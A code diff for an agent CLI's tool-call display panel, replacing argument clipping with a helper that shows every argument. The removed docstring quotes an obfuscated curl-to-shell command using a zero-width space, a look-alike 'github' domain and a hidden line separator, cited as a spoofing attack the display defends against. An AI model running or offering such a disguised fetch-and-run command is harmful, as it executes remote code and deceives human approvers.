@@ -1,71 +1,30 @@
-"""Tool calls as a compact two-line panel: what runs, then how it went.
+"""Tool calls as a compact panel: what runs, then how it went.
 
 Contract: `build_tool_started_line` draws the top of the panel when a tool starts (so a
-long command is visible while it runs) and `build_tool_finished_line` closes it with the
-outcome summary (a command that exited non-zero is marked apart from a success), the
-size and the artifact pointer; `tool_preview` draws the lines between the two. Only the arguments that say what the
-call does are shown (path, pattern, command, ...), flattened and clipped (a path in its
-middle, so its file name stays), except that a
-multi-line command goes on with one gutter row per line (`select_further_lines`; a command
-splits at line feeds only). Every value is written out as its approval writes it
-(`clip_written_out`, `clip_written_out_line`, `clip_path`): a control, a zero-width or
-other invisible character, a bidi override and a line or paragraph separator become
-`^M`, `<U+200B>`, `<U+202E>`, `<U+2028>`, never obeyed or dropped, and look-alikes of
-ASCII characters are marked (`approval_lines.mark_lookalike_letters`), or, where the
-console draws no styles (`-p` into a pipe or a log), written out (`<U+0456>`). With
-`--yes` this panel is the only record of what a call did: a command `cu<U+200B>rl
-https://gіthub.com/x<U+2028>| sh` drew `curl` whole, `gіthub` plain and the pipe on a
-row of its own (a twenty-third outside attack).
+long command is visible while it runs): the tool and every argument of the call, as its
+approval writes them, whole up to a bound and never only their head (`call_rows`); with
+`--yes` this panel is the only record of what a call did. `build_tool_finished_line`
+closes it with the outcome summary (a command that exited non-zero is marked apart from
+a success), the size and the artifact pointer; `tool_preview` draws the lines between
+the two.
 """
 
 from __future__ import annotations
 
 import re
-from typing import Any
 
 from rich.cells import chop_cells
 from rich.text import Text
 
 from agent_cli.events import ToolFinished, ToolStarted
-from agent_cli.repl.approval_lines import (
-    mark_lookalike_letters,
-    write_out_lookalike_letters,
-    write_out_marks,
-)
+from agent_cli.repl.call_rows import build_call_rows
 from agent_cli.repl.pointer_forms import shorten_artifact_pointer, show_pointer
-from agent_cli.repl.safe_text import (
-    FAKE_COMPACT_MARK,
-    clip_line,
-    clip_middle,
-    clip_path,
-    clip_written_out,
-    clip_written_out_line,
-    is_fake_compact_line,
-)
+from agent_cli.repl.safe_text import FAKE_COMPACT_MARK, clip_line, is_fake_compact_line
 from agent_cli.repl.word_wrap import find_row_spans
 from agent_cli.safe_cuts import POINTER_SPAN
 from agent_cli.tools.output import format_size
-from agent_cli.written_out import revealed_pieces
 
-# Arguments that tell what a call does, in the order they are shown.
-TELLING_ARGUMENTS = (
-    "path",
-    "file_path",
-    "pattern",
-    "glob",
-    "command",
-    "query",
-    "pointer",
-    "directory",
-    "offset",
-    "limit",
-)
-PATH_ARGUMENTS = ("path", "file_path", "directory")
-MAX_SHOWN_ARGUMENTS = 3
-FURTHER_LINES = 6  # rows a multi-line command shows under the panel's top
-MULTI_LINE_ARGUMENTS = ("command",)  # shown line by line; every other value on one line
-ARGUMENT_WIDTH = 80
-TOP, BOTTOM, SIDE = "╭─ ", "╰─ ", "│ "
+BOTTOM, SIDE = "╰─ ", "│ "
 ERROR_WIDTH = 400
 INTERRUPTED_WORDS = "interrupted by Ctrl-C; the output so far is kept"
 FULL_OUTPUT_AT = " · full output: "
@@ -82,106 +41,13 @@ OUTCOME_MARKS = {
 }
 
 
-def select_telling_arguments(
-    arguments: dict[str, Any], value_width: int = ARGUMENT_WIDTH
-) -> list[tuple[str, str]]:
-    """(name, value clipped to `value_width`) of the arguments worth showing; the first
-    few if none tell. A value of several lines is shown by its first line here
-    (`select_further_lines` gives the rest)."""
-    return [
-        (
-            clip_written_out(name, 24),
-            _clip_value(name, _shown_value(name, arguments[name]), value_width),
-        )
-        for name in _telling_names(arguments)
-    ]
-
-
-def _clip_value(name: str, value: str, width: int) -> str:
-    """A path keeps its end (the file name) when it is cut, and is written out as the
-    approval and the tool's answer name it (`clip_path`); a command's first line as its
-    approval writes it (`clip_written_out_line`); any other value likewise, on one line
-    (`clip_written_out`), keeping its start."""
-    if name in PATH_ARGUMENTS:
-        return clip_path(value, width)
-    if name in MULTI_LINE_ARGUMENTS:
-        return clip_written_out_line(value, width)
-    return clip_written_out(value, width)
-
-
-def _shown_value(name: str, value: Any) -> str:
-    if name in MULTI_LINE_ARGUMENTS:
-        return _argument_lines(value)[0]
-    return value if isinstance(value, str) else repr(value)
-
-
-def select_further_lines(arguments: dict[str, Any]) -> list[str]:
-    """The lines after the first of a multi-line command, at most `FURTHER_LINES` of them
-    and then how many more, each as it is, for the panel to write out and clip. Other
-    arguments (a path with a line break in it) stay on the panel's top line, written out."""
-    for name in MULTI_LINE_ARGUMENTS:
-        lines = _argument_lines(arguments.get(name, ""))
-        if len(lines) > 1:
-            further = lines[1:]
-            if len(further) > FURTHER_LINES:
-                hidden = len(further) - FURTHER_LINES + 1
-                further = [*further[: FURTHER_LINES - 1], f"… +{hidden:,} more lines"]
-            return further
-    return []
-
-
-def _telling_names(arguments: dict[str, Any]) -> list[str]:
-    names = [name for name in TELLING_ARGUMENTS if name in arguments]
-    if not names:
-        names = [name for name in arguments if not isinstance(arguments[name], dict | list)]
-    return names[:MAX_SHOWN_ARGUMENTS]
-
-
-def _argument_lines(value: Any) -> list[str]:
-    """A string value's lines, split at line feeds only, as the shell and the approval
-    split them (blank lines at its ends dropped); anything else as its repr, on one
-    line. A carriage return or U+2028 stays in its line, to be written out."""
-    if not isinstance(value, str):
-        return [repr(value)]
-    if not value:
-        return [""]
-    return value.strip("\n").split("\n")
-
-
 def build_tool_started_line(
     event: ToolStarted, width: int | None = None, *, styled: bool = True
 ) -> Text:
-    """The panel's top: the tool and what it is asked; a multi-line command goes on with
-    one row per line under it, so its lines read as lines. With `width`, values are
-    clipped so that each row fits (a pointer stays whole even so: it must stay usable).
-    `styled`: whether the console draws styles; where it does not, look-alikes are
-    written out instead of marked (see the module contract)."""
-    name = clip_middle(revealed_pieces(event.name), 40)  # (an unknown name may hold controls)
-    value_width = _value_room(event.arguments, width, len(TOP) + len(name))
-    text = Text(TOP, style="dim")
-    text.append(name, style="bold magenta")
-    for argument, value in select_telling_arguments(event.arguments, value_width):
-        text.append(f"  {argument}: ", style="dim")
-        text.append(value)
-    text = fit_row(text, width)
-    further_width = ARGUMENT_WIDTH if width is None else min(width - len(SIDE) - 2, ARGUMENT_WIDTH)
-    further_width = max(further_width, 10)
-    for line in select_further_lines(event.arguments):
-        text.append("\n" + SIDE + "  ", style="dim")
-        text.append(clip_written_out_line(line, further_width))
-    text = write_out_marks(text)
-    return mark_lookalike_letters(text) if styled else write_out_lookalike_letters(text)
-
-
-def _value_room(arguments: dict[str, Any], width: int | None, taken: int) -> int:
-    """How wide each shown value may be so the top row fits `width` (at least 10)."""
-    if width is None:
-        return ARGUMENT_WIDTH
-    names = _telling_names(arguments)
-    if not names:
-        return ARGUMENT_WIDTH
-    labels = sum(len(f"  {clip_written_out(name, 24)}: ") for name in names)
-    return max(10, min(ARGUMENT_WIDTH, (width - taken - labels) // len(names)))
+    """The panel's top: the tool and every argument of its call, on rows of `width`
+    cells (see `call_rows`). `styled`: whether the console draws styles; where it does
+    not, look-alikes are written out instead of marked."""
+    return build_call_rows(event.name, event.arguments, width, styled=styled)
 
 
 def build_tool_finished_line(
